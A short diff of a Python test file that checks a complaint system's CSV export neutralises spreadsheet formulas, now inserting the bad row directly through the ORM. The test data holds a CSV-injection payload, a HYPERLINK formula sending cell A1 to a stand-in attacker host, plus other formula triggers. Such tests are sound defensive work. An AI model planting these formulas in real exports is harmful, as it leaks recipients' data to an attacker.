@@ -74,9 +74,10 @@ def test_the_administrator_export_is_masked_and_logs_nothing(sysadmin, agency_a)
 
 
 def test_formulas_in_any_text_cell_are_neutralised(city_supervisor, agency_a):
-    """CSV injection: a description starting with = is written as text with a leading '."""
-    registered(
-        agency_a,
+    """CSV injection: the services refuse formulas, but a row that holds one anyway (an old
+    row, a bulk load) is written as text with a leading '."""
+    complaint = registered(agency_a)
+    type(complaint).objects.filter(pk=complaint.pk).update(
         description='=HYPERLINK("http://evil.example/?x="&A1,"点击")',
         place="+1+1",
         officer="@SUM(A1)",
